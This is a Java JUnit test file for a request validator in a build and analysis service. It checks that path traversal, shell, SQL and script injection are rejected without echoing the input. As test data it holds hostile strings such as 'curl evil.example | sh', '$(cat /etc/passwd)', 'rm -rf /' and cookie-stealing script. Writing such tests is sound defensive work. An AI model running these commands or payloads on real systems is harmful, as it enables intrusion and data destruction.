package dev.forge.validation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatNullPointerException;

import dev.forge.analysis.AnalysisRequest;
import dev.forge.builds.BuildRequest;
import dev.forge.validation.ValidationFailure.FieldError;
import dev.forge.validation.ValidationFailure.Kind;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestValidatorTest {

    private static final RequestValidator VALIDATOR = new RequestValidator();

    /** Validates an analysis request in its wire form, as the HTTP API receives it. */
    private static Optional<ValidationFailure> wire(String project, List<String> types) {
        return wire(project, types, null);
    }

    private static Optional<ValidationFailure> wire(String project, List<String> types, String buildId) {
        return AnalysisRequest.fromWire(project, types, buildId) instanceof dev.forge.Outcome.Invalid<?> invalid
                ? Optional.of(invalid.failure()) : Optional.empty();
    }

    private static BuildRequest build(String project, String goal, Map<String, String> parameters) {
        return new BuildRequest(project, goal, parameters);
    }

    private static ValidationFailure failure(BuildRequest request) {
        Optional<ValidationFailure> failure = VALIDATOR.validate(request);
        assertThat(failure).as("expected %s to fail", request).isPresent();
        return failure.get();
    }

    private static ValidationFailure failure(AnalysisRequest request) {
        Optional<ValidationFailure> failure = VALIDATOR.validate(request);
        assertThat(failure).as("expected %s to fail", request).isPresent();
        return failure.get();
    }

    @Test
    void validate_typicalBuild_passes() {
        assertThat(VALIDATOR.validate(build("shop-api", "Build it; then run the tests (fast) and report coverage.",
                Map.of("flavor", "release", "jdk_version", "17")))).isEmpty();
    }

    @Test
    void validate_nullParameters_passesAsEmpty() {
        assertThat(VALIDATOR.validate(build("p", "Build", null))).isEmpty();
    }

    @Test
    void validate_nullFields_areSchemaErrorsInFieldOrder() {
        ValidationFailure failure = failure(build(null, null, null));

        assertThat(failure.kind()).isEqualTo(Kind.SCHEMA);
        assertThat(failure.errors()).containsExactly(
                new FieldError("project_name", "is required"),
                new FieldError("goal", "is required and must not be blank"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "\t\n"})
    void validate_blankGoal_isSchemaError(String goal) {
        assertThat(failure(build("p", goal, null)))
                .isEqualTo(ValidationFailure.schema("goal", "is required and must not be blank"));
    }

    @Test
    void validate_goalLength_countsCharactersNotUtf16Units() {
        String twoThousandEmoji = "🚀".repeat(2000); // 4000 UTF-16 units, 2000 characters
        assertThat(VALIDATOR.validate(build("p", twoThousandEmoji, null))).isEmpty();
        assertThat(VALIDATOR.validate(build("p", "x".repeat(2000), null))).isEmpty();

        assertThat(failure(build("p", "x".repeat(2001), null)))
                .isEqualTo(ValidationFailure.schema("goal", "must be at most 2000 characters"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../x", "a/b", "%2e%2e", "..", "a\\b", "％２ｅ％２ｅ", "p;rm -rf /", "<script>",
            "p%00", "%41bc", "x/../../etc"})
    void validate_hostileProjectName_isSecurityError(String name) {
        ValidationFailure failure = failure(build(name, "Build", null));

        assertThat(failure.kind()).isEqualTo(Kind.SECURITY);
        assertThat(failure.errors()).singleElement().satisfies(error -> {
            assertThat(error.field()).isEqualTo("project_name");
            assertThat(error.message()).startsWith("contains ").doesNotContain(name);
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"my project", "café", "a.b", "ａｂｃ", "name!", "x@y"})
    void validate_misfitProjectName_isSchemaError(String name) {
        assertThat(failure(build(name, "Build", null))).isEqualTo(ValidationFailure.schema(
                "project_name", "must be 1 to 100 characters from A-Z, a-z, 0-9, _ and -"));
    }

    @Test
    void validate_projectNameLength_isOneToHundred() {
        assertThat(VALIDATOR.validate(build("a".repeat(100), "Build", null))).isEmpty();
        assertThat(VALIDATOR.validate(build("A_z-9", "Build", null))).isEmpty();
        assertThat(failure(build("a".repeat(101), "Build", null)).kind()).isEqualTo(Kind.SCHEMA);
        assertThat(failure(build("", "Build", null)).errors())
                .extracting(FieldError::field).containsExactly("project_name");
    }

    @Test
    void validate_unsafeGoal_isSecurityErrorNamingTheKindOfAttack() {
        assertThat(failure(build("p", "Build; rm -rf /", null)))
                .isEqualTo(ValidationFailure.security("goal", "contains a shell metacharacter sequence"));
        assertThat(failure(build("p", "' OR 1=1 --", null)))
                .isEqualTo(ValidationFailure.security("goal", "contains an SQL injection pattern"));
        assertThat(failure(build("p", "see ../../etc/hosts", null)))
                .isEqualTo(ValidationFailure.security("goal", "contains a path traversal sequence"));
        assertThat(failure(build("p", "＜script＞alert(1)＜/script＞", null)))
                .isEqualTo(ValidationFailure.security("goal", "contains a script injection pattern"));
        assertThat(failure(build("p", "Build\u0000", null)))
                .isEqualTo(ValidationFailure.security("goal", "contains a control character"));
    }

    @Test
    void validate_securityAndSchemaTogether_reportsOnlySecurity() {
        ValidationFailure failure = failure(build(null, "$(curl evil.example)", Map.of("BadKey", "x")));

        assertThat(failure).isEqualTo(
                ValidationFailure.security("goal", "contains a shell metacharacter sequence"));
    }

    @Test
    void validate_severalSecurityErrors_areAllListedInFieldOrder() {
        Map<String, String> parameters = new LinkedHashMap<>();
        parameters.put("zeta", "a && b");
        parameters.put("alpha", "<script>");
        ValidationFailure failure = failure(build("../x", "x' OR '1'='1", parameters));

        assertThat(failure.kind()).isEqualTo(Kind.SECURITY);
        assertThat(failure.errors()).extracting(FieldError::field)
                .containsExactly("project_name", "goal", "parameters.alpha", "parameters.zeta");
    }

    @Test
    void validate_unsafeParameterValue_namesTheKey() {
        assertThat(failure(build("p", "Build", Map.of("flavor", "release; curl evil.example | sh"))))
                .isEqualTo(ValidationFailure.security("parameters.flavor",
                        "contains a shell metacharacter sequence"));
    }

    @Test
    void validate_nullParameterValue_isSchemaErrorNamingTheKey() {
        Map<String, String> parameters = new HashMap<>();
        parameters.put("flavor", null);
        assertThat(failure(build("p", "Build", parameters)))
                .isEqualTo(ValidationFailure.schema("parameters.flavor", "must not be null"));
    }

    @Test
    void validate_nullParameterKey_isSchemaError() {
        Map<String, String> parameters = new HashMap<>();
        parameters.put(null, "x");
        assertThat(failure(build("p", "Build", parameters)))
                .isEqualTo(ValidationFailure.schema("parameters", "has a null key"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Flavor", "1st", "_x", "a-b", "with space", "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk", ""})
    void validate_misfitParameterKey_isSchemaErrorWithoutTheKey(String key) {
        assertThat(failure(build("p", "Build", Map.of(key, "x")))).isEqualTo(ValidationFailure.schema(
                "parameters", "has a key that is not a lower-case letter followed by up to 31 of a-z, 0-9 and _"));
    }

    @Test
    void validate_hostileParameterKey_isSecurityErrorThatDoesNotEchoTheKey() {
        ValidationFailure failure = failure(build("p", "Build", Map.of("../../etc", "x")));

        assertThat(failure).isEqualTo(ValidationFailure.security("parameters",
                "has a key that contains a path traversal sequence"));
    }

    @Test
    void validate_unsafeValueUnderHostileKey_isReportedOnParametersNotTheKey() {
        ValidationFailure failure = failure(build("p", "Build", Map.of("<b>", "$(id)")));

        assertThat(failure.kind()).isEqualTo(Kind.SECURITY);
        assertThat(failure.errors()).extracting(FieldError::field).containsOnly("parameters");
        assertThat(failure.errors()).extracting(FieldError::message)
                .contains("contains a shell metacharacter sequence");
    }

    @Test
    void validate_parameterCount_isAtMostTwenty() {
        Map<String, String> twenty = new HashMap<>();
        IntStream.range(0, 20).forEach(i -> twenty.put("p" + i, "v"));
        assertThat(VALIDATOR.validate(build("p", "Build", twenty))).isEmpty();

        Map<String, String> twentyOne = new HashMap<>(twenty);
        twentyOne.put("p20", "v");
        assertThat(failure(build("p", "Build", twentyOne)))
                .isEqualTo(ValidationFailure.schema("parameters", "must have at most 20 entries"));
    }

    @Test
    void validate_parameterValueLength_isAtMostTwoThousand() {
        assertThat(VALIDATOR.validate(build("p", "Build", Map.of("v", "")))).isEmpty();
        assertThat(failure(build("p", "Build", Map.of("v", "x".repeat(2001)))))
                .isEqualTo(ValidationFailure.schema("parameters.v", "must be at most 2000 characters"));
    }

    @Test
    void validate_messagesNeverEchoTheAttack() {
        List<String> attacks = List.of("<script>alert(1)</script>", "'; DROP TABLE users; --",
                "$(cat /etc/passwd)", "../../../../etc/shadow", "javascript:alert(document.cookie)");
        for (String attack : attacks) {
            ValidationFailure failure = failure(build(attack, attack, Map.of(attack, attack, "k", attack)));
            assertThat(failure.kind()).isEqualTo(Kind.SECURITY);
            for (FieldError error : failure.errors()) {
                assertThat(error.field()).doesNotContain(attack).matches("[a-z_]+(\\.[a-z][a-z0-9_]*)?");
                assertThat(error.message()).doesNotContain(attack).doesNotContain("<", "$(", "../");
            }
        }
    }

    @Test
    void validate_null_isMisuse() {
        assertThatNullPointerException().isThrownBy(() -> VALIDATOR.validate((BuildRequest) null));
        assertThatNullPointerException().isThrownBy(() -> VALIDATOR.validate((AnalysisRequest) null));
    }

    @Test
    void validate_typicalAnalysis_passes() {
        assertThat(wire("shop-api", List.of("quality", "security", "types",
                "coverage"))).isEmpty();
        assertThat(wire("p", List.of("coverage", "coverage"))).isEmpty();
    }

    @Test
    void validate_missingAnalysisTypes_isSchemaError() {
        ValidationFailure expected = ValidationFailure.schema("analysis_types",
                "must name at least one of quality, security, types, coverage");
        assertThat(wire("p", null).orElseThrow()).isEqualTo(expected);
        assertThat(wire("p", List.of()).orElseThrow()).isEqualTo(expected);
    }

    @Test
    void validate_unknownAnalysisType_isSchemaErrorListedOnce() {
        ValidationFailure failure = wire("p", List.of("quality", "QUALITY", "lint",
                "<script>")).orElseThrow();

        assertThat(failure).isEqualTo(ValidationFailure.schema("analysis_types",
                "must contain only quality, security, types or coverage"));
    }

    @Test
    void validate_nullAnalysisType_isSchemaError() {
        assertThat(wire("p", Arrays.asList("quality", null)).orElseThrow())
                .isEqualTo(ValidationFailure.schema("analysis_types", "must not contain null"));
    }

    @Test
    void validate_analysisWithNullProjectAndHostileName_areReported() {
        // a null project is the service's call: a build_id may name it (AnalysisService answers
        // "project_name is required unless build_id is given")
        assertThat(wire(null, List.of("types"))).isEmpty();
        assertThat(wire(null, List.of("types"), "../x").orElseThrow().errors().get(0).field())
                .isEqualTo("build_id");
        assertThat(wire("../secrets", List.of("bogus")).orElseThrow())
                .isEqualTo(ValidationFailure.security("project_name", "contains a path traversal sequence"));
    }

    @Test
    void validate_sharedAcrossThreads_givesTheSameAnswers() throws Exception {
        List<BuildRequest> requests = List.of(
                build("p", "Build it", null),
                build("../x", "Build", null),
                build("p", "", null),
                build("p", "a && b", Map.of("k", "v")));
        List<Optional<ValidationFailure>> expected = requests.stream().map(VALIDATOR::validate).toList();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<List<Optional<ValidationFailure>>>> futures = new ArrayList<>();
            for (int t = 0; t < 4; t++) {
                futures.add(pool.submit(() -> {
                    List<Optional<ValidationFailure>> last = null;
                    for (int i = 0; i < 500; i++) {
                        last = requests.stream().map(VALIDATOR::validate).toList();
                    }
                    return last;
                }));
            }
            for (Future<List<Optional<ValidationFailure>>> future : futures) {
                assertThat(future.get()).isEqualTo(expected);
            }
        } finally {
            pool.shutdownNow();
        }
    }
}
